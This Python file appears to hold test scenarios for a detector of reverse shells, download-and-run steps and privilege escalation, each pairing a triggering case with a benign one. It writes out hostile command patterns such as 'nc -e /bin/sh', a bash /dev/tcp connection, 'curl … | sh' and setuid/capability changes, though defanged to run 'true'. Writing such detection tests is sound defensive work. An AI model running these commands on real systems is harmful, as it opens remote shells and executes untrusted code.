"""Shells for somebody else, what is fetched to be run, and the rights of others."""

from tests.scenario.pack.case import Case

BOUND = """
import pty
server = socket.create_server((ADDRESS, 0))
fork(lambda: socket.create_connection(server.getsockname()).close())
server.accept()
pid, fd = pty.fork()
if not pid: os.execv("/bin/sh", ["sh", "-c", "true"])
os.waitpid(pid, 0)
"""
FETCH = """
import socket
socket.socket().connect_ex(("198.51.100.7", 80))
open("got.sh", "w").write("true")
"""
AS_NOBODY = "run({}, user=65534)"

CASES = {
    "shells/shell_on_socket": Case(
        ['run("/bin/sh", "-c", "true", stdin=dial(OUT, 7))'],
        ['a, b = socket.socketpair(); run("/bin/sh", "-c", "true", stdin=a)'],
    ),
    "shells/interpreter_on_socket": Case(
        ['run("/usr/bin/perl", "-e", "1", stdin=dial(OUT, 7))'],
        ['run("/usr/bin/perl", "-e", "1"); run("/usr/bin/true", stdin=dial(OUT, 7))'],
    ),
    "shells/shell_connects": Case(
        ['run("/bin/bash", "-c", "exec 3<>/dev/tcp/198.51.100.7/80")'],
        ['run("/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/80")'],
    ),
    "shells/shell_by_network_tool": Case(
        [
            'called("nc", "-e", "/bin/sh", "host", "443")',
            'called("cat2", "TCP4:host:443", "EXEC:/bin/sh,pty")',
        ],
        [
            'called("nc", "-l", "443"); called("cat2", "STDIO", "EXEC:/bin/sh,pty")',
            'called("busybox", "sh", "-c", "true")',
        ],
    ),
    "shells/shell_for_caller": Case(
        [BOUND.replace("ADDRESS", "OUT")],
        [BOUND.replace("ADDRESS", '"127.0.0.1"')],
    ),
    "download/download_run": Case(
        [
            f'run(PYTHON, "-ISc", {FETCH!r}); run("sh", "got.sh")',
            f'run(PYTHON, "-ISc", {FETCH!r}); os.chmod("got.sh", 0o755); run("sh", "-c", "./got.sh; true")',
        ],
        [f'write("agent.py", {FETCH!r}); run(PYTHON, "-IS", "agent.py"); run("sh", "got.sh")'],
    ),
    "download/pipe_to_shell": Case(
        ['run("sh", "-c", "curl -m1 http://198.51.100.7:9/x | sh -s -- -y; true")'],
        [
            'run("sh", "-c", "echo true | sh; true")',
            'run("sh", "-c", "curl -m1 http://198.51.100.7:9/x | cat; true")',
        ],
    ),
    "privilege/root_gained": Case(
        ["fork(become, 0)"],
        ["fork(become, 1000)"],
        prelude='''
import ctypes
libc = ctypes.CDLL(None)
def become(uid):
    """Nobody who has kept the capability to set user ids, as a server might that logs people in."""
    libc.prctl(8, 1)
    os.setresuid(65534, 65534, 65534)
    held = 1 << 7
    assert libc.capset(struct.pack("II", 0x20080522, 0), struct.pack("6I", held, held, 0, 0, 0, 0)) == 0
    os.setresuid(uid, uid, uid)
''',
    ),
    "privilege/setuid_program": Case(
        ['tool = program("/var/tmp/s/tool"); os.chmod(tool, 0o4755); ' + AS_NOBODY.format("tool")],
        [
            'tool = program("/var/tmp/s/plain"); '
            + AS_NOBODY.format("tool")
            + "; "
            + AS_NOBODY.format('"/bin/su", "-h"')
        ],
    ),
    "privilege/setuid_bit_set": Case(
        ['os.chmod(write("x"), 0o4755)'],
        ['os.chmod(write("x"), 0o755); os.chmod(write("x"), 0o2755)'],
    ),
    "privilege/file_capability_set": Case(
        ['called("setcap", "cap_net_raw+ep", "x")'],
        ['called("setcap", "-r", "x"); called("getcap", "x")'],
    ),
}
